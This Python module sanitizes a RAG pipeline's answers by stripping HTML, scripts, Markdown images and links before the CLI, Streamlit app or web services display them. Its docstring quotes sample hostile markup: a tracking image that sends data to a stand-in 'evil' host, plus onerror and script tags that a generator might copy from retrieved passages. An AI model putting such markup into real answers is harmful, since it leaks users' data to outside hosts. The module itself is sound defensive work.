"""Markup in answers: HTML tags and Markdown images/links are made inert before anyone sees an answer.

An answer is shown by the CLI, rendered as Markdown by the Streamlit app, and sent as JSON to services that
may put it in a web page. Passages are data, so markup a generator copies out of a passage (a `<script>`, a
tracking image `![x](https://evil/p.png?d=...)`, an `<img src=... onerror=...>`) must not reach any of them
active. `neutralize_markup` is the one rule, applied once, to the final answer text
(`pipeline.rag.RagPipeline`); the validator reads the same rule to recognise markup an answer carries.

What it does, keeping the words:
- `<script>`/`<style>` elements are dropped with their content (an unclosed one runs to the end, as in a
  browser); HTML comments, `<!DOCTYPE>`, `<?xml?>` dropped;
- HTML tags (a known element name, or any tag with attributes; also one cut off by the end of the text) are
  dropped, the text between them kept; `<https://x>` autolinks keep their URL as plain text; other angle-bracket text
  ("the <filename> argument") is left alone: no element, nothing to run;
- Markdown images (inline `![alt](url)`, also one cut off by the end of the line, and reference
  `![alt][ref]`) are dropped; inline links
  `[label](url)` keep their label; reference definitions (`[ref]: url` lines) are dropped.
It runs to a fixed point, so markup re-formed by a removal ("<scr<script>ipt>") goes too. Citation markers
("[1]", "[1][2]") are never touched.
"""

from __future__ import annotations

import re

from pipeline.text import MARKER_NUMBERS  # what a citation marker holds: "[1]", "[1, 2]" are never markup

# elements a browser renders or runs; a tag with one of these names is markup, whatever the attributes
HTML_ELEMENTS = frozenset(
    "a abbr address area article aside audio b base bdi bdo blockquote body br button canvas caption center cite "
    "code col colgroup data datalist dd del details dfn dialog div dl dt em embed fieldset figcaption figure font "
    "footer form frame frameset h1 h2 h3 h4 h5 h6 head header hr html i iframe img input ins kbd label legend li "
    "link main map mark marquee math menu meta meter nav noscript object ol optgroup option output p param picture "
    "pre progress q rp rt ruby s samp script section select slot small source span strike strong style sub summary "
    "sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp "
    "image animate set use foreignobject".split()
)
_URL = r"[^()\s]*(?:\([^()\s]*\)[^()\s]*)*"  # a link destination, one level of balanced parentheses allowed
_TITLE = r"""(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?"""  # optional link title
_LABEL = r"[^\[\]\n]*"
_RULES = re.compile(
    rf"""(?P<element><\s*(?P<ename>script|style)\b[^>]*>.*?(?:<\s*/\s*(?P=ename)\s*>|\Z))
    |(?P<comment><!--.*?(?:-->|$))
    |(?P<decl><[!?][A-Za-z\[][^<>]*>)
    |(?P<autolink><(?P<url>[A-Za-z][A-Za-z0-9+.-]{{1,31}}:[^<>\s]*)>)
    |(?P<tag></?\s*(?P<name>[A-Za-z][A-Za-z0-9-]*)(?P<attrs>(?:\s[^<>]*)?)(?:/?\s*>|\Z))
    |(?P<image>!\[{_LABEL}\]\(\s*<?{_URL}>?{_TITLE}\s*\)|!\[(?!{MARKER_NUMBERS}\])[^\[\]\n]+\]\[{_LABEL}\]
               |!\[{_LABEL}\]\([^)\n]*$)
    |(?P<link>(?<!!)\[(?P<label>{_LABEL})\]\(\s*<?{_URL}>?{_TITLE}\s*\))
    |(?P<refdef>^[ \t]{{0,3}}\[[^\[\]\n]+\]:[ \t]*\S+[^\n]*$)
    """,
    re.IGNORECASE | re.DOTALL | re.MULTILINE | re.VERBOSE,
)
URL_RE = re.compile(r"\b(?:https?|ftp)://[^\s<>()\[\]\"'`]+|\b(?:javascript|data|vbscript):[^\s<>()\[\]\"'`]+",
                    re.IGNORECASE)


def _replacement(m: re.Match) -> str | None:
    """What a rule's match becomes, or None when the match is not markup after all (kept as written)."""
    if m.group("element") is not None or m.group("comment") is not None or m.group("decl") is not None:
        return ""
    if m.group("autolink") is not None:
        return m.group("url")
    if m.group("tag") is not None:
        known = m.group("name").lower() in HTML_ELEMENTS
        return "" if known or "=" in (m.group("attrs") or "") else None
    if m.group("image") is not None or m.group("refdef") is not None:
        return ""
    if m.group("link") is not None:
        label = m.group("label")
        return f"[{label}]" if re.fullmatch(MARKER_NUMBERS, label.strip()) else label
    raise AssertionError(f"unhandled markup rule in {m.group()!r}")  # _RULES and this function drifted apart


def _pass(text: str) -> tuple[str, list[int]]:
    """One pass of the rules: the new text and, for each of its characters, its index in `text`."""
    out: list[str] = []
    index: list[int] = []
    pos = 0
    for m in _RULES.finditer(text):
        new = _replacement(m)
        if new is None:
            continue
        out.append(text[pos:m.start()])
        index.extend(range(pos, m.start()))
        out.append(new)
        kept = text.find(new, m.start(), m.end()) if new else -1  # a link label / an autolink URL: its own chars
        index.extend(range(kept, kept + len(new)) if kept >= 0 else [m.start()] * len(new))
        pos = m.end()
    out.append(text[pos:])
    index.extend(range(pos, len(text)))
    return "".join(out), index


def neutralize_markup_map(text: str) -> tuple[str, list[int]]:
    """`neutralize_markup(text)` and, for each character of it, its index in `text` (for mapping spans back)."""
    original, index = text, list(range(len(text)))
    for _ in range(len(text) + 1):  # each effective pass removes characters, so this ends
        new, step = _pass(text)
        if new == text:
            break
        text, index = new, [index[i] for i in step]
    if text != original:  # removals leave "word  word" and "word ." behind: tidy those up
        keep = [i for i in range(len(text)) if not _loose_space(text, i)]
        text, index = "".join(text[i] for i in keep), [index[i] for i in keep]
        lead = len(text) - len(text.lstrip())
        end = len(text.rstrip())
        text, index = text[lead:end], index[lead:end]
    return text, index


def _loose_space(text: str, i: int) -> bool:
    """A space or tab at `i` that follows another one or stands before closing punctuation or a line end."""
    if text[i] not in " \t":
        return False
    return (i > 0 and text[i - 1] in " \t") or (i + 1 < len(text) and text[i + 1] in ".,;:!?\n")


def neutralize_markup(text: str) -> str:
    """`text` with HTML and Markdown images/links made inert, the words kept (see the module docstring)."""
    return neutralize_markup_map(text)[0]


def find_markup(text: str) -> list[str]:
    """The pieces of markup `neutralize_markup` would remove or rewrite, in order (one pass)."""
    return [m.group() for m in _RULES.finditer(text) if _replacement(m) is not None]


def find_urls(text: str) -> list[str]:
    """URLs written in `text` (http, https, ftp; and javascript:, data:, vbscript: ones), trailing dots cut."""
    return [u.rstrip(".,;:!?") for u in URL_RE.findall(text)]


def defang(text: str) -> str:
    """`text` shown as written but inert when rendered as HTML or Markdown: angle brackets become ‹ › and
    the joints of Markdown links, images and reference definitions get a space ("] (", "] [", "] :").
    For quoting a passage's markup in a report (an injection flag's excerpt), where removing it would hide
    what was found."""
    text = text.replace("<", "‹").replace(">", "›")
    return re.sub(r"\]([(\[:])", r"] \1", text)
